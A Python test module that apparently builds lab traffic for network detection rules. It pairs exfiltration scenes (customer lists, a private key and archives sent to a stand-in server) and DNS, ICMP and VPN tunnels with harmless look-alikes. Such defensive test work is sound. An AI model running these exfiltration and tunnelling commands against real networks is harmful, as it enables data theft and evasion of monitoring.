"""Scenes of an office (rules/examples/office): what leaves it in clear, through tunnels, on wrong ports,
through one of its servers; and what looks like each and is every day's."""

import os
import random
import subprocess

import servers
from scene import Scene, lines_of, tells

SERVER, RESOLVER = "203.0.113.80", "203.0.113.53"
STORES = tuple(f"203.0.113.{number}" for number in range(100, 140))
LISTED, UNLISTED = "203.0.113.66", "203.0.113.67" # rules/examples/office/indicators.txt
STRANGER = "198.51.100.44"
WEB, FILES = "10.20.0.8", "10.20.0.9" # serves partners; the office's own shares


def curl(lab, *words, space=None):
    (space or lab.near).run("curl", "-sS", "-4", "--max-time", "30", "-o", "/dev/null", *words)


# --- what is in clear ------------------------------------------------------------------------------


def post(lab, text):
    servers.nginx(lab, lab.far, SERVER)
    with lab.tap():
        curl(lab, "--data-binary", f"@{lab.write('list.csv', text)}", "-H", "Content-Type: text/csv",
             f"http://{SERVER}/up/list.csv")


def customer(number):
    return (f"{number:05d};Customer {number};customer{number:04d}@example{number % 7}.co.jp;"
            f"2026-11-{number % 28 + 1:02d}")


def customers(lab):
    post(lab, lines_of(300, customer))


def article(number):
    return (f"{number:05d};Article {number};{number * 37 % 900 + 100}.00 EUR;orders@example.co.jp;"
            f"2026-11-{number % 28 + 1:02d}")


def prices(lab):
    post(lab, lines_of(300, article))


def share(lab, address):
    servers.smbd(lab, lab.far, address)
    with lab.tap():
        lab.near.run("smbclient", f"//{address}/share", "-N", "-c",
                     f"put {lab.write('list.csv', lines_of(300, customer))} list.csv")


def share_outside(lab):
    share(lab, SERVER)


def share_inside(lab):
    share(lab, FILES)


def upload(lab, name, text):
    servers.vsftpd(lab, lab.far, SERVER)
    with lab.tap():
        curl(lab, "-T", lab.write(name, text), f"ftp://{SERVER}/up/{name}")


def configuration(lab):
    """A server's settings with its key: made now, used nowhere."""
    servers.sshd_key(lab, "backup")
    with open(lab.path("backup"), encoding="ascii") as file:
        key = file.read()
    upload(lab, "backup.txt", "smtp_host=mail.example.co.jp\nDB_URL=postgres://app:not-a-secret@10.20.0.9/app\n"
           "Port 22\nPermitRootLogin no\nPasswordAuthentication no\n" + key)


def page(lab):
    servers.sshd_key(lab, "deploy")
    with open(lab.path("deploy.pub"), encoding="ascii") as file:
        key = file.read()
    upload(lab, "index.html", "<html><body><h1>Opening hours</h1>\n" + lines_of(
        12, lambda n: f"<p>Counter {n + 1}: {n % 3 + 8}:00 to 17:00</p>") + f"<pre>{key}</pre></body></html>\n")


def documents(lab, *words):
    chance = random.Random(7)
    for number in range(3):
        text = lines_of(200, lambda n: " ".join(chance.choice(("quarter", "plan", "offer", "site", "cost", "staff"))
                                                for _ in range(9)))
        lab.write(f"report{number}.txt", text)
    lab.near.run("zip", "-q", "-j", *words, lab.path("reports.zip"), *(lab.path(f"report{n}.txt") for n in range(3)))
    servers.nginx(lab, lab.far, SERVER)
    with lab.tap():
        curl(lab, "-F", f"file=@{lab.path('reports.zip')}", f"http://{SERVER}/up/")


def locked_archive(lab):
    documents(lab, "-P", "not-a-secret")


def plain_archive(lab):
    documents(lab)


def trivial(lab, text):
    servers.tftpd(lab, lab.far, SERVER)
    with lab.tap():
        lab.near.run("tftp", SERVER, "-m", "binary", "-c", "put", lab.write("note.txt", text), "note.txt")


def project_note(lab):
    trivial(lab, lines_of(40, lambda n: f"{n}. PRJ-{400100 + n % 5}: bid {n * 7 % 50 + 10} M, not to be passed on"))


def ordinary_note(lab):
    trivial(lab, lines_of(40, lambda n: f"{n}. PRJ-2026/{n % 5}: the room is booked, {n * 7 % 50 + 10} chairs, coffee"))


# --- tunnels ---------------------------------------------------------------------------------------


def iodine(lab):
    secret = {**os.environ, "IODINED_PASS": "weir", "IODINE_PASS": "weir"}
    lab.serve(lab.far, 53, "iodined", "-f", "-c", "-d", "dns7", "172.31.7.1/28", "t.example.org", env=secret, kind="u")
    with lab.tap():
        lab.near.start("iodine", "-f", "-r", "-T", "TXT", "-m", "200", "-d", "dns8", RESOLVER, "t.example.org",
                       env=secret)
        lab.until("the tunnel", lambda: b"172.31.7." in lab.near.run("ip", "addr", "show"))
        lab.part(lab.near, "datagrams", "172.31.7.1", "9", "20", "300", "0.05")


def dns2tcp(lab):
    lab.serve(lab.far, 7000, "socat", "-u", "TCP-LISTEN:7000,fork,reuseaddr", "/dev/null")
    config = lab.write("dns2tcpd", f"listen = {RESOLVER}\nport = 53\nuser = nobody\nchroot = /tmp\n"
                       "domain = t.example.org\nresources = drop:127.0.0.1:7000\n")
    lab.serve(lab.far, 53, "dns2tcpd", "-F", "-f", config, kind="u")
    with lab.tap():
        lab.serve(lab.near, 7001, "dns2tcpc", "-c", "-z", "t.example.org", "-r", "drop", "-l", "7001", RESOLVER)
        lab.part(lab.near, "stream", "127.0.0.1", "7001", "8000")


def look_ups(lab):
    """Names as object stores have them, sixty letters of hash, each asked for to be fetched from."""
    chance = random.Random(5)
    names = [f"{chance.randbytes(20).hex()}.{chance.randbytes(10).hex()}.store.example.org" for _ in range(110)]
    servers.dnsmasq(lab, lab.far, RESOLVER, {name: STORES[n % len(STORES)] for n, name in enumerate(names)})
    servers.nginx(lab, lab.far, "0.0.0.0")
    lab.resolver(lab.near, RESOLVER)
    config = lab.write("urls", lines_of(len(names), lambda n: f'url = "http://{names[n]}/"\noutput = "/dev/null"'))
    with lab.tap():
        lab.near.run("curl", "-sS", "-4", "-H", "Connection: close", "--rate", "5/s", "-K", config)


def ptunnel(lab):
    lab.serve(lab.far, 7000, "socat", "-u", "TCP-LISTEN:7000,fork,reuseaddr", "/dev/null")
    lab.far.start("ptunnel-ng", "-r127.0.0.1", "-R7000", "-o" + lab.path("server.log"))
    with lab.tap():
        lab.serve(lab.near, 8000, "ptunnel-ng", "-p", SERVER, "-l8000", "-r127.0.0.1", "-R7000",
                  "-o" + lab.path("client.log"))
        lab.part(lab.near, "stream", "127.0.0.1", "8000", "70000")


def pings(lab):
    with lab.tap():
        lab.near.run("ping", "-q", "-c", "150", "-i", "0.01", "-s", "400", SERVER)


def openvpn(lab):
    near = servers.openvpn(lab, SERVER)
    lab.serve(lab.far, 7000, "socat", "-u", "TCP-LISTEN:7000,fork,reuseaddr", "/dev/null")
    with lab.tap():
        lab.near.start(*near)
        lab.until("the tunnel", lambda: not subprocess.run(
            ["ip", "netns", "exec", lab.near.name, "ping", "-q", "-c", "1", "-W", "1", "172.31.8.1"], check=False,
            capture_output=True).returncode)
        lab.part(lab.near, "stream", "172.31.8.1", "7000", "110000")


def https_upload(lab):
    servers.nginx_tls(lab, lab.far, SERVER, "www.example.org")
    noise = lab.write("noise", random.Random(6).randbytes(110_000))
    with lab.tap():
        curl(lab, "-k", "--resolve", f"www.example.org:443:{SERVER}", "--data-binary", f"@{noise}",
             "https://www.example.org/up/")


# --- ports, servers, lists -------------------------------------------------------------------------


def ssh_on_443(lab):
    servers.sshd(lab, lab.far, SERVER, 443)
    with lab.tap():
        lab.near.run("ssh", "-F", "none", "-p", "443", "-i", lab.path("key"), "-o", "StrictHostKeyChecking=no", "-o",
                     "UserKnownHostsFile=/dev/null", f"root@{SERVER}", "true")


def https(lab):
    servers.nginx_tls(lab, lab.far, SERVER, "www.example.org")
    with lab.tap():
        curl(lab, "-k", "--resolve", f"www.example.org:443:{SERVER}", "https://www.example.org/")


def requests(lab, asked):
    """curl's configuration of one after the other."""
    return lab.write("urls", "\nnext\n".join(f'{one}\noutput = "/dev/null"' for one in asked) + "\n")


def partner(lab, logins):
    """Pages behind names and passwords, asked for from outside."""
    with open(lab.write("people", ""), "w", encoding="ascii") as file:
        for number in range(40):
            file.write(f"person{number:02d}:{{PLAIN}}not-a-secret-{number}\n")
    pages = lab.folder("served")
    with open(os.path.join(pages, "page.txt"), "w", encoding="ascii") as file:
        file.write("Minutes of the meeting. " * 20)
    servers.nginx(lab, lab.near, WEB, f'location /mine/ {{ alias {pages}/; auth_basic "partners"; '
                                      f'auth_basic_user_file {lab.path("people")}; }}')
    config = requests(lab, [f'url = "http://{WEB}/mine/page.txt"\nuser = "{login}"' for login in logins])
    with lab.tap():
        lab.far.run("curl", "-sS", "-4", "-K", config)


def many_accounts(lab):
    partner(lab, [f"person{number:02d}:not-a-secret-{number}" for number in range(30)])


def one_account(lab):
    """… who mistypes the names of others, too: what is refused was not read."""
    partner(lab, ["person07:not-a-secret-7"] * 15 + [f"person{number:02d}:wrong" for number in range(15)])


def visits(lab, *tap):
    servers.nginx(lab, lab.far, SERVER)
    config = requests(lab, [f'url = "http://{SERVER}/{n}"\nheader = "Connection: close"' for n in range(30)])
    with lab.tap(*tap):
        lab.near.run("curl", "-sS", "-4", "-K", config)


def half_a_tap(lab):
    """A tap of which only one fibre is plugged in: what comes in."""
    visits(lab, "-Q", "in")


def whole_tap(lab):
    visits(lab)


def fetch(lab, address):
    servers.nginx(lab, lab.far, address)
    with lab.tap():
        curl(lab, f"http://{address}/task?id=7")


def listed(lab):
    fetch(lab, LISTED)


def unlisted(lab):
    fetch(lab, UNLISTED)


def scene(number, name, leak, twin, programs, code=None, far=(SERVER,), destination=None, more=()):
    """One of a client's, each of its own. `more`: rules of rules/ that tell of it, too."""
    client, row, other = f"10.20.1.{30 + number}", ".".join(name.split(".")[:2]), destination or far[0]
    told = (tells(row, client, other, code), *(tells(rule, client, other) for rule in more))
    return Scene(name, leak, twin, told, (client,), far, programs)


SCENES = (
    scene(1, "content.personal", customers, prices, ("nginx", "curl"), more=("office.people",)),
    scene(11, "content.personal.smb", share_outside, share_inside, ("smbd", "smbclient"), far=(SERVER, FILES),
          more=("office.people", "service.file_server")),
    scene(2, "content.settings", configuration, page, ("vsftpd", "curl", "ssh-keygen")),
    scene(3, "content.archive", locked_archive, plain_archive, ("zip", "nginx", "curl")),
    scene(4, "content.pattern", project_note, ordinary_note, ("in.tftpd", "tftp")),
    scene(5, "tunnel.dns.iodine", iodine, look_ups, ("iodine", "iodined", "dnsmasq", "curl", "nginx"),
          "tunnel.dns.names", (RESOLVER, *STORES), "example.org"),
    scene(6, "tunnel.dns.dns2tcp", dns2tcp, None, ("dns2tcpc", "dns2tcpd", "socat"),
          "tunnel.dns.names", (RESOLVER,), "example.org"),
    scene(7, "tunnel.icmp", ptunnel, pings, ("ptunnel-ng", "socat", "ping"), "tunnel.icmp.bytes"),
    scene(8, "protocol.mismatch", ssh_on_443, https, ("ssh", "sshd", "ssh-keygen", "nginx", "openssl", "curl"),
          "protocol.mismatch.port"),
    scene(9, "intel.match", listed, unlisted, ("nginx", "curl"), far=(LISTED, UNLISTED)),
    scene(10, "office.vpn", openvpn, https_upload, ("openvpn", "openssl", "socat", "ping", "nginx", "curl")),
    Scene("served.sweep", many_accounts, one_account, (tells("served.sweep", WEB, STRANGER, "served.sweep.accounts"),),
          (WEB,), (STRANGER,), ("nginx", "curl")),
    Scene("sensor.blind", half_a_tap, whole_tap, (tells("sensor.blind", None, None, "sensor.blind.one_sided"),),
          ("10.20.1.50",), (SERVER,), ("nginx", "curl")),
)
